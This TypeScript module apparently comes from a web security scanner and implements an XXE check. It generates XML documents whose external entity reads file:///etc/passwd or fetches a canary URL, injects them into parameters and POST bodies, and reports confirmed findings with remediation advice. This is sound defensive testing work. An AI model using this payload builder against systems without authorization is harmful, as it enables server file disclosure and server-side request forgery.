import type { CanaryHit, CanaryProbe, ScanCanary } from '../check-kit/canary-listener.ts';
import type { HttpExchange } from '../check-kit/guarded-http-client.ts';
import { describePoint, injectPayload, type InjectionPoint } from '../check-kit/injection.ts';
import { createActiveCheck, reportAtPoint, type PointProof } from './active-check.ts';
import { sendCheckRequest } from './check-request.ts';
import { buildFinding, type FindingKind } from './finding-builder.ts';
import { canaryAnswerEvidence, describeHit, LateProbes, probeHighlight } from './out-of-band.ts';
import type { CheckContext, CrawledPage, PageCheck } from '../check-kit/page-check.ts';
import { firstNewMatch } from './response-compare.ts';

/** Stable id of the XML external entity check. */
export const xxeCheckId = 'xml-external-entity';

const KIND: FindingKind = {
  checkId: xxeCheckId,
  title: 'XML external entity (XXE) injection',
  cwe: 611,
  cvssVector: 'AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
  severity: 'high',
  owasp: 'A05:2021-Security Misconfiguration',
  description:
    'The application parses XML it receives with a parser that resolves external entities: a DOCTYPE declaring an entity with a SYSTEM identifier makes the parser read a file or fetch a URL.',
  risk: 'An attacker reads files of the server (configuration, keys, source code), makes the server send requests into its network (server-side request forgery), and can exhaust memory with nested entities.',
  remediation:
    'Disable DTD processing in the XML parser (or at least external entities and external DTDs): e.g. `disallow-doctype-decl` in Java, `resolve_entities=False`/defusedxml in Python, `LIBXML_NOENT` never set in PHP. Prefer JSON where XML is not required, and reject documents with a DOCTYPE.',
  references: [
    {
      link: 'https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing',
      name: 'OWASP: XML External Entity (XXE) Processing',
    },
    {
      link: 'https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html',
      name: 'OWASP XML External Entity Prevention Cheat Sheet',
    },
  ],
};

/** The file the in-band payload names, and the line that proves it was read. */
const PASSWD_URI = 'file:///etc/passwd';
const PASSWD_LINE = /root:[x*!]?:0:0:[^\r\n<]*/;
const ENTITY = 'prmtr';
const XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n';

/** Parameters named like a document, or whose crawled value is XML. */
const XML_NAME = /xml|data|payload|soap|document/i;

/** True for a point that may carry XML: a document-ish name, or a crawled value that starts like XML. */
export function looksLikeXmlParameter(point: InjectionPoint): boolean {
  return point.location !== 'path' && (XML_NAME.test(point.name) || /^\s*<[?!A-Za-z_]/.test(point.value));
}

/**
 * An XML document declaring the external entity `&prmtr;` with `systemId` and using it. When a
 * crawled document is given, its shape is kept (the application may read one element only):
 * the DOCTYPE names its root and the entity replaces its first text; otherwise (no text, or a
 * DOCTYPE already there) a document of its own `<prmtr>&prmtr;</prmtr>`.
 */
export function xxeDocument(systemId: string, template?: string): string {
  const dtd = (root: string): string => `<!DOCTYPE ${root} [<!ENTITY ${ENTITY} SYSTEM "${systemId}">]>\n`;
  const text = template?.trim() ?? '';
  const declaration = /^<\?xml[^?]*\?>\s*/.exec(text)?.[0];
  const rest = text.slice(declaration?.length ?? 0);
  const root = /^<([A-Za-z_][\w.:-]*)[\s/>]/.exec(rest)?.[1];
  const firstText = />([^<>]*\S[^<>]*)</.exec(rest);
  if (/<!DOCTYPE/i.test(text) || root === undefined || firstText === null)
    return `${XML_DECLARATION}${dtd(ENTITY)}<${ENTITY}>&${ENTITY};</${ENTITY}>`;
  const start = firstText.index + 1;
  const shaped = `${rest.slice(0, start)}&${ENTITY};${rest.slice(start + firstText[1]!.length)}`;
  return `${declaration?.trimEnd() ?? XML_DECLARATION.trimEnd()}\n${dtd(root)}${shaped}`;
}

/** The passwd line an answer shows that the baseline does not. */
export function findPasswdLine(body: string, baseline: string): { value: string; offset: number } | undefined {
  return firstNewMatch(PASSWD_LINE, body, baseline);
}

/** What one XXE test is aimed at: a parameter, or the whole body of a POST endpoint. */
interface XxeTarget {
  /** Sends a document there. */
  send(document: string): Promise<HttpExchange | undefined>;
  /** The crawled value, whose shape the documents keep. */
  template: string | undefined;
  baseline: string;
  /** `query parameter q`, `the whole request body (application/xml)`. */
  description: string;
  report(proof: PointProof): Promise<void>;
}

async function testTarget(target: XxeTarget, canary: ScanCanary | undefined, late: LateProbes): Promise<void> {
  const fileDocument = xxeDocument(PASSWD_URI, target.template);
  const exchange = await target.send(fileDocument);
  const line = exchange === undefined ? undefined : findPasswdLine(exchange.body, target.baseline);
  if (exchange !== undefined && line !== undefined) {
    await target.report({
      exchange,
      evidence: line,
      confirmation: `in band: ${target.description} given a document whose entity names ${PASSWD_URI} answers a line of it ("${line.value}"), which the original answer lacks`,
    });
    return;
  }
  if (canary === undefined) return;
  const probe = canary.newProbe();
  const sentAt = Date.now();
  const outOfBand = await target.send(xxeDocument(probe.url, target.template));
  if (outOfBand === undefined) return;
  const report = (hit: CanaryHit): Promise<void> => reportHit(target, probe, hit, outOfBand, sentAt);
  const hit = probe.hit();
  if (hit !== undefined) await report(hit);
  else late.add(probe, report);
}

async function reportHit(
  target: XxeTarget,
  probe: CanaryProbe,
  hit: CanaryHit,
  exchange: HttpExchange,
  sentAt: number,
): Promise<void> {
  const evidence = canaryAnswerEvidence(exchange, probe);
  await target.report({
    exchange,
    ...(evidence === undefined ? {} : { evidence }),
    extraHighlights: probeHighlight(exchange, probe),
    confirmation: `out of band: ${target.description} given a document whose external entity names ${probe.url}, ${describeHit(hit, sentAt)}: the parser resolved the entity`,
  });
}

/** The whole-body test of a POST endpoint: the crawled form's URL posted an XML document as `application/xml`. */
function wholeBodyTarget(page: CrawledPage, context: CheckContext): XxeTarget {
  const description = 'the whole request body (application/xml)';
  return {
    send: (document) =>
      sendCheckRequest(page.url, context, { method: 'POST', body: { contentType: 'application/xml', text: document } }),
    template: undefined,
    baseline: page.exchange.body,
    description,
    report: (proof) =>
      context.report(
        buildFinding(KIND, {
          location: `${page.originText}${page.url.pathname}`,
          host: page.origin.host,
          exchange: proof.exchange,
          ...(proof.evidence === undefined ? {} : { evidence: proof.evidence }),
          ...(proof.extraHighlights === undefined ? {} : { extraHighlights: proof.extraHighlights }),
          title: `${KIND.title}: request body of POST ${page.url.pathname}`,
          observation: `${KIND.title} in ${description} of POST ${page.url.pathname}. Confirmed ${proof.confirmation}.`,
        }),
      ),
  };
}

/**
 * XML external entities. In parameters named like a document (xml, data, payload, soap) or whose
 * value is XML, and as the whole body (`application/xml`) once per POST endpoint the crawler
 * found: first a document whose entity names file:///etc/passwd, reported when a passwd line
 * (`root:x:0:0:`) shows that the original answer lacks; then, with the scan's canary, one whose
 * entity names a canary URL, reported on a hit (blind XXE), during the request or within the
 * grace period. One finding per point and per endpoint body.
 */
export function createXxeCheck(canary: ScanCanary | undefined): PageCheck {
  const late = new LateProbes();
  const bodiesTested = new Set<string>();
  const active = createActiveCheck({
    id: xxeCheckId,
    applies: looksLikeXmlParameter,
    test: (point, page, context, send) =>
      testTarget(
        {
          send: (document) => send(injectPayload(point, document)),
          template: /^\s*</.test(point.value) ? point.value : undefined,
          baseline: page.exchange.body,
          description: describePoint(point),
          report: (proof) => reportAtPoint(KIND, point, page, context, proof),
        },
        canary,
        late,
      ),
  });
  return {
    id: xxeCheckId,
    async inspect(page, context) {
      await active.inspect(page, context);
      if (page.exchange.request.method !== 'POST') return;
      const key = `${page.originText}${page.url.pathname}`;
      if (bodiesTested.has(key)) return;
      bodiesTested.add(key);
      await testTarget(wholeBodyTarget(page, context), canary, late);
    },
    finish: (context) => late.settle(context.signal),
  };
}
